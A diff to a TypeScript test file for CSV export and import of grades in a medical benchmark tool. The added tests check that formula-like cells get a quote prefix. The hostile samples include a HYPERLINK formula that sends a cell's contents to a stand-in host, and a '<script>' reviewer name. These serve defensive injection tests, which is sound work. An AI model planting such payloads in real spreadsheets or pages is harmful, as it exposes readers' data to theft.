@@ -12,6 +12,7 @@ import { clueSuite } from '../suites/clue/suite.js';
 import { DEFAULT_DOUBLE_SHARE, REVIEW_SEED, reviewQueue, reviewToken } from '../view/review-queue.js';
 import { blankSheetCsv, csvText, GRADE_COLUMNS, gradesCsv } from './grades-csv.js';
 import { importGrades } from './grades-import.js';
+import { cellText, spreadsheetCell } from './spreadsheet-cell.js';
 
 const suites = [clueSuite];
 const RUN = 'cluerun0001';
@@ -89,6 +90,12 @@ function gradedStore(): Store {
   return store;
 }
 
+/** A reviewer's queue as the viewer orders it (the default seed and share). */
+const queue =
+  (reviewer: string) =>
+  (items: Parameters<typeof reviewQueue>[0], grades: Parameters<typeof reviewQueue>[1]) =>
+    reviewQueue(items, grades, { seed: REVIEW_SEED, doubleShare: DEFAULT_DOUBLE_SHARE, reviewer }).next;
+
 function write(folder: string, name: string, text: string): string {
   const path = join(folder, name);
   writeFileSync(path, text);
@@ -134,15 +141,16 @@ describe('grades as CSV', () => {
     expect(fresh.humanGrades.current().every((stored) => stored.source === 'csv')).toBe(true);
     expect(await importGrades(fresh, suites, file, { tokenOf })).toMatchObject({ added: 0, skipped: 4 });
     expect(fresh.humanGrades.history()).toHaveLength(4);
+    // The store's own export (viewer grades, edits too) imported back: nothing added, nothing twice.
+    const history = write(folder, 'history.csv', gradesCsv(source, suites, { tokenOf, history: true }).text);
+    expect(await importGrades(source, suites, history, { tokenOf })).toMatchObject({ added: 0, skipped: 5 });
+    expect(source.humanGrades.history()).toHaveLength(5);
+    expect(source.humanGrades.history().every((stored) => stored.source === 'viewer')).toBe(true);
   });
 
   it('a blank sheet is blinded, importable once filled, and refused for restricted text without the acknowledgement', async () => {
     const folder = temporaryFolder('medbench-grades-');
     const store = gradedStore();
-    const queue =
-      (reviewer: string) =>
-      (items: Parameters<typeof reviewQueue>[0], grades: Parameters<typeof reviewQueue>[1]) =>
-        reviewQueue(items, grades, { seed: REVIEW_SEED, doubleShare: DEFAULT_DOUBLE_SHARE, reviewer }).next;
     const sheet = blankSheetCsv(store, suites, {
       task: 'meqsum',
       reviewer: 'carol',
@@ -222,6 +230,82 @@ describe('grades as CSV', () => {
     expect(allowed.text).toContain('reference 1');
   });
 
+  it('text a spreadsheet would run as a formula is written with a quote before it; a note comes back unchanged', async () => {
+    const folder = temporaryFolder('medbench-grades-');
+    const store = storeWithRun();
+    const hostile = '=HYPERLINK("http://x/?"&A1,"Click")';
+    store.putResult(
+      testResultRecord({
+        runId: RUN,
+        sampleId: 'meqsum/5',
+        task: 'meqsum',
+        params: { order: 5 },
+        gold: { reference: '+1 call 555' },
+        prompt: '@SUM(1+1)',
+        rawOutput: hostile,
+        parsed: hostile,
+        scores: { rougeL: 0.5 },
+      }),
+    );
+    const sheet = blankSheetCsv(store, suites, {
+      task: 'meqsum',
+      reviewer: 'carol',
+      limit: 10,
+      tokenOf,
+      queue: queue('carol'),
+    });
+    const [header, ...rows] = parseCsv(sheet.text).map((row) => row.fields);
+    const row = rows.find((cells) => cells[0] === tokenOf({ runId: RUN, sampleId: 'meqsum/5' }))!;
+    const cell = (name: string) => row[header!.indexOf(name)];
+    expect([cell('input'), cell('reference'), cell('answer')]).toEqual([
+      "'@SUM(1+1)",
+      "'+1 call 555",
+      `'${hostile}`,
+    ]);
+    expect(rows.some((cells) => cells[header!.indexOf('input')] === 'Summarize: question 0')).toBe(true);
+
+    // Notes: each starting like a formula, or with a quote a reader could take for the guard.
+    const notes = [hostile, '-2 points', '+ok', '@mention', '\tTab first', '-', "'=quoted already", "'plain"];
+    for (const [index, note] of notes.entries())
+      store.humanGrades.add(
+        grade(`meqsum/${index % 4}`, `r${index}`, ['keeps-focus'], {
+          note,
+          gradedAt: `2026-11-27T10:0${index}:00.000Z`,
+        }),
+      );
+    const exported = parseCsv(gradesCsv(store, suites, { tokenOf }).text).map((cells) => cells.fields);
+    const noteCells = exported.slice(1).map((cells) => cells[exported[0]!.indexOf('note')]);
+    expect(noteCells).toEqual([
+      `'${hostile}`,
+      "'-2 points",
+      "'+ok",
+      "'@mention",
+      "'\tTab first",
+      "'-",
+      "''=quoted already",
+      "'plain",
+    ]);
+    // A carriage return too (a CSV reader reads one inside a note as a line break: not round-tripped).
+    expect(spreadsheetCell('\rx')).toBe("'\rx");
+    expect(cellText("'\rx")).toBe('\rx');
+    const file = write(folder, 'grades.csv', gradesCsv(store, suites, { tokenOf }).text);
+    expect(await importGrades(store, suites, file, { tokenOf })).toMatchObject({ added: 0, skipped: 8 });
+    const fresh = storeWithRun();
+    expect(await importGrades(fresh, suites, file, { tokenOf })).toMatchObject({ added: 8 });
+    expect(content(fresh.humanGrades.current())).toEqual(content(store.humanGrades.current()));
+    expect(
+      fresh.humanGrades
+        .history()
+        .map((stored) => stored.id)
+        .sort(),
+    ).toEqual(
+      store.humanGrades
+        .history()
+        .map((stored) => stored.id)
+        .sort(),
+    );
+  });
+
   describe('bad input: a named error, and the store unchanged', () => {
     const good = () => {
       const [header, ...rows] = parseCsv(gradesCsv(gradedStore(), suites, { tokenOf }).text).map(
@@ -295,9 +379,29 @@ describe('grades as CSV', () => {
       ],
       ['an empty reviewer', edited('reviewer', ' '), /line 2, column "reviewer": is empty/],
       [
+        "a reviewer name the viewer's --reviewer refuses",
+        edited('reviewer', '<script>x</script>'),
+        /line 2, column "reviewer": "<script>x<\/script>" has characters other than letters, digits/,
+      ],
+      [
+        'a note longer than the viewer takes',
+        edited('note', 'x'.repeat(5000)),
+        /line 2, column "note": is 5000 characters long: a note is at most 2000 characters/,
+      ],
+      [
         'an unknown column',
         edited('note', 'x').replace('note,', 'notes,'),
         /line 1, column "notes": is not a column of a grades file/,
+      ],
+      [
+        'a file separated by semicolons (as a European spreadsheet saves it)',
+        edited('note', 'x').replaceAll(',', ';'),
+        /line 1: the header is one column holding semicolons: the file is not comma-separated; save it as CSV UTF-8 \(comma-delimited\)/,
+      ],
+      [
+        'a file separated by tabs',
+        edited('note', 'x').replaceAll(',', '\t'),
+        /line 1: the header is one column holding tabs: the file is not comma-separated/,
       ],
       ['a row with a field too many', `${edited('note', 'x')}a,b\r\n`, /line \d+: has 2 fields, the header/],
       [
